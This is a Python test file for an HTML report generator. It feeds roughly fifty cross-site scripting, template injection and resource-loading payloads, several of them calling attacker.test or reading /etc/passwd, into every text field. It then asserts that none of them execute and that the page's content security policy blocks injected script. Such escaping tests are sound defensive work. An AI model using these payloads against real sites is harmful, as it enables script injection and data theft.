"""Whatever stands in the texts of an execution, the report runs nothing, asks for nothing and keeps its structure."""

import json
from collections.abc import Iterable, Iterator
from importlib.resources import files
from types import UnionType
from typing import Any, Union, get_args, get_origin

import pytest
from pydantic import BaseModel

from mixseek.records import ModelUsage, Usage
from mixseek.report.record import ExecutionRecord, RoundRecord, TeamRecord
from tests.report.conftest import Opened, OpenReport
from tests.report.execution_records import long_record, make_record, make_team

RUN = "window.ran=(window.ran||0)+1"
ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "script from outside": "<script src=https://attacker.test/x.js></script>",
    "end of the title": f"</title><script>{RUN}</script>",
    "end of the style": f"</style><script>{RUN}</script><style>*{{display:none}}",
    "end of details": f"</summary></details></section></main></body></html><script>{RUN}</script>",
    "end of a text area, a template and a comment": f"--></textarea></template></noscript><script>{RUN}</script>",
    "comment": "<!-- <!-- <script>",
    "CDATA": f"]]><![CDATA[<script>{RUN}</script>]]>",
    "image with a handler": f"<img src=x onerror='{RUN}'>",
    "image from outside": "<img src=https://attacker.test/i.png>",
    "image in Markdown": "![pixel](https://attacker.test/p.png) ![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "image as a link in Markdown": f"[![a](https://attacker.test/p.png)](javascript:{RUN})",
    "SVG": f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x dur=1s></svg>",
    "SVG script": f"<svg><script>{RUN}</script><foreignObject><iframe src=javascript:{RUN}>",
    "end of the chart": f"</text></title></g></svg><script>{RUN}</script>",
    "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror='{RUN}'>",
    "link in HTML": f"<a href='javascript:{RUN}' autofocus onfocus='{RUN}'>x</a>",
    "link in Markdown": f"[x](javascript:{RUN}) [y](JaVaScRiPt:{RUN}) [z](&#106;avascript:{RUN})",
    "link in Markdown, split": f"[x](java\tscript:{RUN}) [y](<java\nscript:{RUN}>) [z](%6aavascript:{RUN})",
    "link with data": f"[x](data:text/html;base64,PHNjcmlwdD4=) <data:text/html,<script>{RUN}</script>>",
    "link to a file": "[x](file:///etc/passwd) [y](../../secret) [z](//attacker.test/x) [w](#team-1)",
    "link with a quote": f'[x](https://attacker.test/"onmouseover="{RUN}" "t\\" onclick=\\"{RUN}")',
    "link by reference": f"[x][1]\n\n[1]: javascript:{RUN} \"x\"",
    "auto link": f"<javascript:{RUN}> <https://attacker.test/\"onclick=\"{RUN}>",
    "attribute with double quotes": f'" autofocus onfocus="{RUN}" x="',
    "attribute with single quotes": f"' autofocus onfocus='{RUN}' x='",
    "attribute without quotes": f" autofocus onfocus={RUN} tabindex=0 ",
    "attribute with a back quote": f"` onmouseover=`{RUN}`",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;script&#62;{RUN}&#60;/script&#62; &#x3C;b&#x3E;",
    "template": "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} {# x #} ${7*7} <%= 7*7 %> #{7*7}",
    "style": "<style>@import 'https://attacker.test/s.css'; body{background:url(https://attacker.test/b.png)}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(https://attacker.test/c.png)'>x</p>",
    "CSS break": "};*{background:url(https://attacker.test/d.png)}/*",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://attacker.test/'>",
    "base": "<base href=https://attacker.test/>",
    "frame": f"<iframe src=https://attacker.test/ srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": "<object data=https://attacker.test/o></object><embed src=https://attacker.test/e>",
    "form": "<form action=https://attacker.test/><input name=a autofocus><button>x</button></form>",
    "link element": "<link rel=stylesheet href=https://attacker.test/l.css><link rel=prefetch href=https://attacker.test/>",
    "media": f"<video src=https://attacker.test/v onerror='{RUN}'></video><audio src=x onerror='{RUN}'></audio>",
    "handler on details": f"<details open ontoggle='{RUN}'><summary>x</summary></details>",
    "fence": f"```\"><script>{RUN}</script>\nx\n```\n</code></pre><script>{RUN}</script>",
    "table": f"| a | b |\n|:-\"onclick={RUN}|-|\n| <script>{RUN}</script> | </td></tr></table><script>{RUN}</script> |",
    "code": f"`<script>{RUN}</script>` ``</code><script>{RUN}</script>``\n\n    <script>{RUN}</script>",
    "description of an image": f"![<img src=x onerror={RUN}>](https://attacker.test/a.png)",
    "heading": f"# </h4><script>{RUN}</script>",
    "control codes": f"\x00\x01\x1b[31m<\x00script>{RUN}</script>\x7f\x85\u2028\u202e\u2066\ud800",
    "wide letters": f"＜script＞{RUN}＜/script＞ ‹script› \u02bascript",
}  # fmt: skip
OUR_SCRIPT = files("mixseek.report").joinpath("templates", "page.js").read_text(encoding="utf-8")
STRUCTURE = """
() => {
    const names = {};
    for (const each of document.querySelectorAll('*'))
        if (!each.closest('.prose')) names[each.localName] = (names[each.localName] || 0) + 1;
    return names;
}
"""
DANGEROUS = """
() => {
    const elements = 'script img image iframe object embed form input base video audio use math foreignobject animate';
    const is_bad = ({name, value}) => name.startsWith('on') || ['style', 'src', 'srcdoc', 'autofocus'].includes(name)
        || (name === 'href' && !/^(https?:|mailto:|#team-[0-9]+$)/.test(value));
    return [...document.querySelectorAll('*')].flatMap(each => [
        ...(elements.split(' ').includes(each.localName.toLowerCase()) ? [each.outerHTML] : []),
        ...[...each.attributes].filter(is_bad).map(({name}) => `${each.localName} ${name}`),
    ]);
}
"""


def with_every_text(text: str) -> ExecutionRecord:
    """An execution in which every text is this one: those of each class of record, whatever its fields are."""
    record = make_record(make_team("a", [80.0, 70.0]), make_team("b", [60.0, None]))
    failed = record.teams[1].model_copy(update={"error": "x", "shortage": "x"})
    rounds = [each.model_copy(update={"flags": ("x",), "failure": "x"}) for each in record.teams[0].rounds]
    rounds[1] = rounds[1].model_copy(update={"submission_format": "json"})
    flagged = record.teams[0].model_copy(update={"rounds": tuple(rounds)})
    usage = Usage(requests=1, details={"x": 1})
    configuration: Any = {"x": ["x", {"y": "x"}]}
    settings = {"configuration": configuration, "config_file": "x"}
    whole = record.model_copy(update={"teams": (flagged, failed), "usage": usage, **settings})
    replaced = _replace(whole, text)
    assert isinstance(replaced, ExecutionRecord)
    return replaced


def _replace(value: Any, text: str) -> Any:
    match value:
        case BaseModel():
            fields = {name: _replace(getattr(value, name), text) for name in _free_texts(type(value))}
            return value.model_copy(update=fields)
        case str():
            return text
        case tuple():
            return tuple(_replace(each, text) for each in value)
        case list():
            return [_replace(each, text) for each in value]
        case dict():
            return {text if name == "x" else name: _replace(each, text) for name, each in value.items()}
        case _:
            return value


def _free_texts(record: type[BaseModel]) -> Iterator[str]:
    """The fields that are texts or hold some; fixed words stay, and so does what decides whether a text is rendered."""
    for name, field in record.model_fields.items():
        if name != "submission_format" and not _is_fixed(field.annotation):
            yield name


def _is_fixed(annotation: Any) -> bool:
    if get_origin(annotation) in (Union, UnionType):
        return any(_is_fixed(each) for each in get_args(annotation))
    return str(get_origin(annotation)) == "typing.Literal"


def test_the_attacks_reach_every_text_field_of_every_record() -> None:
    dumped = json.dumps(with_every_text("ATTACK").model_dump(mode="json"))
    parts = (ExecutionRecord, TeamRecord, RoundRecord, ModelUsage)
    texts = [
        name for part in parts for name, field in part.model_fields.items() if field.annotation in (str, str | None)
    ]
    assert [name for name in texts if name != "submission_format" and f'"{name}": "ATTACK"' not in dumped] == []
    for name in ("metric_name", "evaluator_comment", "reasoning", "agent_name", "content", "sha256", "media_type"):
        assert f'"{name}": "ATTACK"' in dumped


@pytest.mark.asyncio(loop_scope="session")
async def test_no_attack_in_any_text_runs_or_asks_for_anything(open_report: OpenReport) -> None:
    opened = await open_report(with_every_text("harmless"))
    harmless = await opened.page.evaluate(STRUCTURE)
    broken = {}
    for name, attack in ATTACKS.items():
        await opened.show(with_every_text(attack))
        await opened.page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true })")
        found = {
            "ran": await opened.page.evaluate("window.ran || 0"),
            "dangerous": await opened.page.evaluate(DANGEROUS),
            "asked": opened.other_requests,
            "complained": list(opened.complaints),
            "structure": await opened.page.evaluate(STRUCTURE) != harmless,
        }
        if any(found.values()):
            broken[name] = found
    assert broken == {}


@pytest.mark.asyncio(loop_scope="session")
async def test_no_attack_does_more_where_rounds_become_elements_later(open_report: OpenReport) -> None:
    opened = await open_report(large_with_texts(["harmless"] * len(ATTACKS)))
    harmless = await made_whole(opened)
    await opened.show(large_with_texts(ATTACKS.values()))
    assert await made_whole(opened) == harmless
    assert await opened.page.evaluate("window.ran || 0") == 0
    assert await opened.page.evaluate(DANGEROUS) == [f"<script>{OUR_SCRIPT}</script>"]
    assert (opened.other_requests, opened.complaints) == ([], [])


def large_with_texts(texts: Iterable[str]) -> ExecutionRecord:
    """All texts in all fields of teams, and so much more that rounds wait."""
    teams = [team for text in texts for team in with_every_text(text).teams]
    return long_record().model_copy(update={"teams": (*teams, *long_record().teams)})


async def made_whole(opened: Opened) -> Any:
    """The structure of the page when no round waits any more."""
    await opened.page.wait_for_selector("noscript", state="detached")
    return await opened.page.evaluate(STRUCTURE)


@pytest.mark.asyncio(loop_scope="session")
async def test_a_text_that_looks_like_html_is_read_as_it_was_written(open_report: OpenReport) -> None:
    attack = ATTACKS["script"]
    opened = await open_report(with_every_text(attack))
    assert (await opened.page.title()).startswith(attack)
    assert await opened.page.inner_text(".answer") == attack
    assert await opened.page.inner_text(".task") == attack


@pytest.mark.asyncio(loop_scope="session")
async def test_the_browser_itself_would_refuse_what_slipped_through(open_report: OpenReport) -> None:
    """Behind the escaping stands the policy: with script and style put into the file by hand, nothing happens."""
    opened = await open_report(with_every_text("harmless"))
    await slip_in(opened, behind="<main>")
    assert await opened.page.evaluate("window.ran || 0") == 0
    assert await opened.page.is_visible("main")
    assert opened.refused == ["https://attacker.test/x: csp"]
    assert len([words for words in opened.complaints if "Content Security Policy" in words]) >= 3


@pytest.mark.asyncio(loop_scope="session")
async def test_the_browser_would_refuse_it_in_a_round_that_becomes_elements_later(open_report: OpenReport) -> None:
    opened = await open_report(long_record())
    await slip_in(opened, behind="<noscript>")
    await made_whole(opened)
    assert await opened.page.evaluate("window.ran || 0") == 0
    assert await opened.page.is_visible("main")
    assert opened.refused == ["https://attacker.test/x: csp"] * 6


async def slip_in(opened: Opened, *, behind: str) -> None:
    """Write script, style and image into the file, wherever this tag stands, and open it again."""
    slipped = (
        f"<script>{RUN}</script><style>main{{display:none}}</style><img src=https://attacker.test/x onerror={RUN}>"
    )
    text = opened.file.read_text(encoding="utf-8")
    opened.file.write_text(text.replace(behind, f"{behind}{slipped}"), encoding="utf-8")
    await opened.page.reload(wait_until="load")
